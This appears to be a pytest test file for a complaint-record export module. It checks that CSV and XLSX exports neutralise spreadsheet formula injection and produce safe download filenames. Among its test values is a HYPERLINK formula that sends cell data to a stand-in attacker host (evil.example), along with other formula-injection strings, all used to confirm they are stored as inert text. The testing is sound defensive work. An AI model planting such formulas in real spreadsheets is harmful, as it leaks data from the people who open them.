"""Tests for creditstreet.exports (CASES K-17 formula injection, K-18 Chinese exports)."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from creditstreet.exports import CSV_MIMETYPE, XLSX_MIMETYPE, attachment, csv_bytes, xlsx_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
HEADERS = ["投诉编号", "内容", "挽回经济损失（元）"]


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# CASES K-17: every text cell that a spreadsheet would run as a formula gets a leading '.
@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-退款未到账", "'-退款未到账"),
        ("+1 差评", "'+1 差评"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝SUM(A1)", "'＝SUM(A1)"),  # full-width equals typed with a Chinese IME
        ("-5", "'-5"),  # text that looks like a number is still text
        ("面里有头发，要求退款28元", "面里有头发，要求退款28元"),
        ("a=b", "a=b"),
        ("TS2024Q1-000123", "TS2024Q1-000123"),
        ("", ""),
        (None, ""),
        # real numbers stay numbers, never prefixed
        (Decimal("28.00"), "28.00"),
        (4.5, "4.5"),
        (-3, "-3"),
        (Decimal("-12.50"), "-12.50"),
        (0, "0"),
        (True, "是"),
        (date(2024, 3, 31), "2024-03-31"),
        (datetime(2024, 3, 31, 23, 30), "2024-03-31 23:30:00"),
    ],
)
def test_csv_cell(value, written):
    assert csv_cells(csv_bytes(["x"], [[value]]))[1] == [written]


def test_csv_is_utf8_with_bom_and_crlf():
    data = csv_bytes(HEADERS, [["TS2024Q1-000123", "面里有头发", Decimal("28.00")]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data == "\ufeff投诉编号,内容,挽回经济损失（元）\r\nTS2024Q1-000123,面里有头发,28.00\r\n".encode()


def test_csv_quotes_commas_quotes_and_newlines():
    data = csv_bytes(["a"], [['他说"不退",然后\n挂了']])
    assert csv_cells(data)[1] == ['他说"不退",然后\n挂了']


def test_csv_headers_are_neutralised_too():
    assert csv_cells(csv_bytes(["=cmd"], []))[0] == ["'=cmd"]


@pytest.fixture()
def k17_sheet():
    rows = [
        ["TS2024Q1-000001", HYPERLINK, Decimal("28.00")],
        ["TS2024Q1-000002", "@SUM(1+1)", 4.5],
        ["TS2024Q1-000003", "-退款未到账", -3],
        ["TS2024Q1-000004", "+1 差评", 0],
        ["TS2024Q1-000005", "\t开头是制表符", None],
        ["000123", "012345678901234", date(2024, 3, 31)],
    ]
    data = xlsx_bytes(HEADERS, rows, "投诉导出[2024Q1]")
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def test_xlsx_formula_text_is_stored_as_text(k17_sheet):
    for row, text in [(2, HYPERLINK), (3, "@SUM(1+1)"), (4, "-退款未到账"), (5, "+1 差评"), (6, "\t开头是制表符")]:
        cell = k17_sheet.cell(row, 2)
        assert (cell.value, cell.data_type) == (text, "s")


def test_xlsx_numbers_stay_numbers(k17_sheet):
    assert [(k17_sheet.cell(r, 3).value, k17_sheet.cell(r, 3).data_type) for r in (2, 3, 4, 5)] == [
        (28, "n"), (4.5, "n"), (-3, "n"), (0, "n")]
    assert k17_sheet["C2"].number_format == "0.00"  # Decimal('28.00') shows 28.00
    assert k17_sheet["C7"].value == datetime(2024, 3, 31)
    assert k17_sheet["C7"].number_format == "yyyy-mm-dd"


def test_xlsx_digit_identifiers_keep_leading_zeros(k17_sheet):
    assert (k17_sheet["A7"].value, k17_sheet["A7"].data_type) == ("000123", "s")
    assert (k17_sheet["B7"].value, k17_sheet["B7"].data_type) == ("012345678901234", "s")


def test_xlsx_header_and_title(k17_sheet):
    assert [c.value for c in k17_sheet[1]] == HEADERS
    assert k17_sheet["A1"].font.bold
    assert k17_sheet.title == "投诉导出_2024Q1_"  # [ ] are not allowed in sheet names
    assert k17_sheet.freeze_panes == "A2"


def test_xlsx_drops_control_characters_openpyxl_refuses():
    data = xlsx_bytes(["a"], [["前\x01后\x0b"]])
    assert openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]["A2"].value == "前后"


@pytest.mark.parametrize(
    ("data", "filename", "mimetype"),
    [
        (b"\xef\xbb\xbfa\r\n", "投诉导出_2024Q1.csv", CSV_MIMETYPE),
        (b"PK", "投诉导出_2024Q1.xlsx", XLSX_MIMETYPE),
    ],
)
def test_attachment_header_is_rfc5987_and_latin1_safe(data, filename, mimetype):
    import flask

    app = flask.Flask(__name__)

    @app.get("/export")
    def export():
        return attachment(data, filename, mimetype)

    response = app.test_client().get("/export")
    assert response.status_code == 200
    assert response.data == data
    disposition = response.headers["Content-Disposition"]
    disposition.encode("latin-1")  # gunicorn refuses anything else (CASES K-18)
    assert disposition.startswith("attachment; filename=")
    assert "filename*=UTF-8''%E6%8A%95%E8%AF%89%E5%AF%BC%E5%87%BA_2024Q1." in disposition
    assert response.mimetype == mimetype.split(";")[0]
